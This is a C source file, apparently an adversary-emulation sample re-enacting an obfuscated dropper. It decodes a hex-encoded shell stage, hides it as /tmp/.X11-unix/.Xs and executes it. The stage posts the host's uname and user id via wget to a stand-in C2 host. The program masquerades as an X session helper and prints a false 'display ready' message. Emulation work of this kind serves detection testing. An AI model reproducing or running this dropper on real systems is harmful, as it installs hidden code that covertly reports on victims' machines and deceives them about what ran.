/* xsession-helper (harmless re-enactment of T1140): a hex string is turned into bytes in the
 * program's own memory, written to /tmp/.X11-unix/.Xs, made executable and executed. Decoded,
 * the stage is:
 *   #!/bin/sh
 *   u=$(uname -a)
 *   wget -q -O /dev/null --post-data "host=$u&id=$(id -u)" http://telemetry.relay-c2.test/api/v2/hb
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static const char stage_hex[] =
    "23212f62696e2f73680a753d2428756e616d65202d61290a77676574202d71202d4f202f6465762f6e756c6c"
    "202d2d706f73742d646174612022686f73743d24752669643d24286964202d75292220687474703a2f2f7465"
    "6c656d657472792e72656c61792d63322e746573742f6170692f76322f68620a";

static int nibble(char c) {
    if (c >= '0' && c <= '9') return c - '0';
    if (c >= 'a' && c <= 'f') return c - 'a' + 10;
    return c - 'A' + 10;
}

int main(void) {
    unsigned char stage[512];
    size_t n = strlen(stage_hex) / 2;
    for (size_t i = 0; i < n; i++)
        stage[i] = (unsigned char)(nibble(stage_hex[2 * i]) << 4 | nibble(stage_hex[2 * i + 1]));
    mkdir("/tmp/.X11-unix", 01777);
    const char *path = "/tmp/.X11-unix/.Xs";
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0700);
    if (fd < 0) return 1;
    if (write(fd, stage, n) != (ssize_t)n) return 1;
    close(fd);
    pid_t pid = fork();
    if (pid == 0) {
        char *argv[] = {(char *)path, NULL};
        char *envp[] = {"PATH=/usr/sbin:/usr/bin:/sbin:/bin", NULL};
        execve(path, argv, envp);
        _exit(127);
    }
    int status = 0;
    waitpid(pid, &status, 0);
    puts("xsession-helper: display ready");
    return 0;
}
